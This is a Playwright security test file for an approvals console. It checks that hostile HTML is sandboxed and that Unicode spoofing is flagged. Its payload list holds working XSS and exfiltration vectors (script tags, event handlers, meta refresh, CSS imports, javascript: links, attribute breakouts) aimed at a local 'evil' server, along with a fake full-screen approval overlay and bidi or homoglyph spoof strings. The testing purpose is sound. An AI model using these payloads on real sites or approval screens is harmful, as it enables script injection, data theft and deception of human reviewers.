/** Hostile content in the approvals screen: it neither scripts, loads, restyles, leads away, nor passes for the console. */
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { TestHome } from "../support/home.ts";
import { ask, post, posting, type Waiting } from "./approval-cases.ts";
import { openDesk, type Desk } from "./kit.ts";

/** Where hostile content would load from, send to, or lead. */
const asked: string[] = [];
const evil = createServer((request, response) => {
  asked.push(request.url ?? "");
  response.end("evil");
});
let desk: Desk;
let page: Page;
let ids: readonly string[] = [];

const FAKE = `<div style="position:fixed;inset:0;z-index:99999;background:white"><h1>Cofferdam</h1><p>Approved. Nothing waits for you.</p><button>Approve</button></div>`;
const IMITATION = `<footer aria-label="Decide"><button>Approve: post.publish at blog</button></footer>`;

/** What is drawn as nothing, or as a space: a message may hide in a row of them. */
const IGNORED = "Hello\u{e0100}\u{e01ef}\u034f\ufe00\u2800\u3000";

const at = (path: string) => `http://127.0.0.1:${(evil.address() as AddressInfo).port}/${path}`;
const payloads = (): readonly (readonly [why: string, html: string])[] => [
  ["a script", `<script>parent.pwned=1;top.pwned=1;fetch("${at("script")}")</script>`],
  ["a script from outside", `<script src="${at("src.js")}"></script>`],
  [
    "an event handler",
    `<img src=x onerror="top.pwned=1"><svg onload="top.pwned=1"><body onload="top.pwned=1">`,
  ],
  ["a refresh", `<meta http-equiv="refresh" content="0;url=${at("refresh")}">`],
  [
    "a form that sends itself",
    `<form action="${at("form")}" id="f"><input name="a"><button autofocus>Go</button></form>`,
  ],
  ["a base", `<base href="${at("base/")}" target="_top"><a href="x">x</a><img src="y.png">`],
  [
    "a style sheet that imports",
    `<style>@import url("${at("import.css")}"); body{background:url("${at("bg")}")}</style>`,
  ],
  [
    "a link to a style sheet",
    `<link rel="stylesheet" href="${at("link.css")}"><link rel="prefetch" href="${at("prefetch")}">`,
  ],
  [
    "an inline style",
    `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('${at("inline")}')">over</p>`,
  ],
  [
    "an SVG",
    `<svg><script>top.pwned=1</script><use href="${at("use.svg")}#x"/><foreignObject><iframe src="${at("fo")}"></iframe></foreignObject></svg>`,
  ],
  [
    "a frame in the frame",
    `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="javascript:top.pwned=1"></iframe><object data="${at("object")}"></object><embed src="${at("embed")}">`,
  ],
  [
    "a picture from outside",
    `<img src="${at("pixel.png")}" srcset="${at("srcset.png")} 2x"><video poster="${at("poster")}" src="${at("video")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>`,
  ],
  [
    "a link that leads away",
    `<a href="${at("away")}" target="_top" ping="${at("ping")}">click</a><a href="javascript:top.pwned=1">js</a>`,
  ],
  [
    "a document that ends ours",
    `</body></html></iframe></figure></article><script>top.pwned=1</script>${IMITATION}`,
  ],
  [
    "attribute breaking",
    `"><script>top.pwned=1</script><p title='"><img src=x onerror=top.pwned=1>'>x</p>`,
  ],
  ["a fake console", FAKE],
];

before(async () => {
  evil.listen(0, "127.0.0.1");
  await once(evil, "listening");
  const home = new TestHome();
  const texts: readonly Waiting[] = [
    posting("slack", "POST /api/chat.postMessage", {
      channel: "C1",
      text: "pay to pay\u202ecod.exe\u200b and p\u0430ypal.com \u2066x\u2069 \u{e0041} " + IGNORED,
    }),
    posting("slack", "POST /api/chat.postMessage", { channel: "C1", text: "x".repeat(1 << 20) }),
    posting("slack", "POST /api/chat.postMessage", { channel: "C1", text: IMITATION + FAKE }),
    posting("slack", "POST /api/chat.postMessage", { channel: "C1", text: "y".repeat(60_000) }),
    {
      ...post("<p>hello</p>"),
      more: {
        target: `https://system.example/${"a/".repeat(4000)}`,
        summary: `Publish ${"all ".repeat(3000)}`,
      },
    },
  ];
  ids = await ask(home, [...payloads().map(([, html]) => post(`<p>hello</p>${html}`)), ...texts]);
  desk = await openDesk({ home });
  page = await desk.signedIn();
  await page.goto(`${desk.origin}/approvals`);
});
after(async () => {
  await desk?.close();
  evil.close();
  evil.closeAllConnections();
});

async function open(place: number): Promise<ReturnType<Page["getByRole"]>> {
  const id = ids[place] ?? "";
  await page.getByRole("navigation", { name: "What waits" }).locator(`a[href$="${id}"]`).click();
  const card = page.getByRole("article", { name: `Approval ${id}` });
  await card.waitFor();
  return card;
}

/** Whether the page is what it was: its own place, nothing set, its own controls where they were. */
async function isUntouched(url: string): Promise<void> {
  assert.equal(page.url(), url);
  assert.equal(await page.evaluate(() => "pwned" in globalThis), false, "nothing ran");
  assert.deepEqual(asked, [], "nothing was loaded or sent");
  assert.equal(await page.getByRole("region", { name: "Decide" }).count(), 1);
  assert.equal(await page.getByRole("button", { name: /^Approve…/ }).count(), 1);
}

test("INV-188: hostile HTML neither runs, loads, sends, leads away nor covers anything", async () => {
  for (const [place, [why, html]] of payloads().entries()) {
    const card = await open(place);
    const url = page.url();
    const frame = card.locator("iframe").first();
    assert.equal(await frame.getAttribute("sandbox"), "", why);
    const inner = page.frameLocator("iframe").first();
    await inner.getByText("hello").waitFor();
    await page.waitForTimeout(50);
    await isUntouched(url);
    const [box, bar] = [
      await frame.boundingBox(),
      await page.getByRole("region", { name: "Decide" }).boundingBox(),
    ];
    assert.ok(
      box !== null && bar !== null && box.height <= 330,
      `${why}: the frame stays its size`,
    );
    // Its source can be read, as text.
    await card.getByRole("tab", { name: "Source" }).first().click();
    const start = html.slice(0, 30).split("\n")[0] ?? "";
    await card.getByText(start).first().waitFor();
    await isUntouched(url);
  }
  assert.deepEqual(desk.takeProblems(), [], "and the browser had nothing to refuse");
});

test("INV-188: no script but the one that makes frames may make a document", async () => {
  const card = await open(0);
  const refusal = await card
    .locator("iframe")
    .first()
    .evaluate((frame) => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      const attempts = [
        () => trustedTypes.createPolicy("another", {}),
        () => trustedTypes.createPolicy("cofferdam-frame", {}), // There is one, and no second of its name.
        () => Object.assign(frame, { srcdoc: "<script>top.pwned=1</script>" }),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return "done";
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
  assert.deepEqual(refusal, ["TypeError", "TypeError", "TypeError"]);
  await isUntouched(page.url());
  desk.takeProblems();
});

test("INV-188: the frame holds hostile source by its sandbox and its own policy alone", async () => {
  // In a page without the console's policy, so that only what the frame has of its own counts.
  const bare = await (await desk.context()).newPage();
  await bare.goto("about:blank");
  const whole = await (await open(0)).locator("iframe").first().getAttribute("srcdoc");
  const head = whole?.slice(0, whole.indexOf("<body")) ?? "";
  assert.match(head, /Content-Security-Policy/);
  for (const [why, html] of payloads()) {
    await bare.setContent(`<iframe sandbox="" id="f"></iframe>`);
    await bare.locator("#f").evaluate((frame, source) => {
      Object.assign(frame, { srcdoc: source });
    }, `${head}<body>${html}</body></html>`);
    await bare.waitForTimeout(150);
    assert.equal(await bare.evaluate(() => "pwned" in globalThis), false, why);
    assert.deepEqual(asked, [], why);
    assert.match(bare.url(), /^about:blank/, why);
  }
  await bare.context().close();
  desk.takeProblems();
});

test("INV-188: letters that hide, reorder or imitate are marked, in the card and in the list", async () => {
  const place = payloads().length;
  const card = await open(place);
  const shown = await card.innerText();
  for (const name of ["U+202E", "U+200B", "U+2066", "U+E0041"])
    assert.ok(shown.includes(name), name);
  assert.match(shown, /HelloU\+E0100U\+E01EFU\+034FU\+FE00U\+2800U\+3000/);
  assert.doesNotMatch(
    shown,
    /\u202e|\u200b|\u2066|\u{e0041}|\u{e0100}|\u034f|\ufe00|\u2800|\u3000/u,
  );
  await card.locator('mark[title="letters of several alphabets"]').first().waitFor();
  const list = await page.getByRole("navigation", { name: "What waits" }).innerText();
  assert.doesNotMatch(list, /[\u202e\u200b\u2066\u{e0041}]/u);
});

/** Tries to say yes; what stands there instead of one. */
async function isHeld(id: string, why: RegExp): Promise<void> {
  await page.keyboard.press("a");
  await page.waitForTimeout(500);
  await page.keyboard.press("Enter");
  await page.getByRole("alert").filter({ hasText: why }).waitFor();
  assert.equal((await desk.home.ask("approvals.show", { id })).state, "shown");
  await page.getByRole("button", { name: "Cancel" }).click();
}

test("INV-189: a megabyte is told by its hash, read page by page, and not approved before its end was in sight", async () => {
  const place = payloads().length + 1;
  const card = await open(place);
  await card.getByText("bytes 1 to 16384 of 1048602").waitFor();
  await isHeld(ids[place] ?? "", /does not show all that is sent/);
  await card.getByRole("button", { name: "After" }).click();
  await card.getByText("bytes 16385 to 32768").waitFor();
  await card.getByRole("tab", { name: "Bytes" }).click();
  await card.getByText(/^00000000 {2}7b 22 63/).waitFor();
});

test("INV-189: a long line is shown to its end when asked, and not approved before", async () => {
  const place = payloads().length + 3;
  const card = await open(place);
  await card.getByText(/characters more/).waitFor();
  await isHeld(ids[place] ?? "", /show all of it first/);
  for (
    let n = 0;
    n < 8 && (await card.getByRole("button", { name: "Show more" }).count()) > 0;
    n += 1
  ) {
    await card.getByRole("button", { name: "Show more" }).first().click();
  }
  assert.equal(await card.getByText(/characters more/).count(), 0);
});

test("INV-188: markup in a text is text, and adds no button to the page", async () => {
  const card = await open(payloads().length + 2);
  await card.getByText("<footer aria-label").first().waitFor();
  await isUntouched(page.url());
});

test("INV-188: however long its names are, the card and the bar stay where they are", async () => {
  const card = await open(payloads().length + 4);
  const [head, bar] = [
    await card.locator("header").first().boundingBox(),
    await page.getByRole("region", { name: "Decide" }).boundingBox(),
  ];
  assert.ok(head !== null && head.height < 240, `${head?.height}`);
  assert.ok(bar !== null && bar.y + bar.height <= 861, `${bar?.y}`);
  await card.getByRole("region", { name: "Request" }).getByText("a/a/a/").first().waitFor();
});
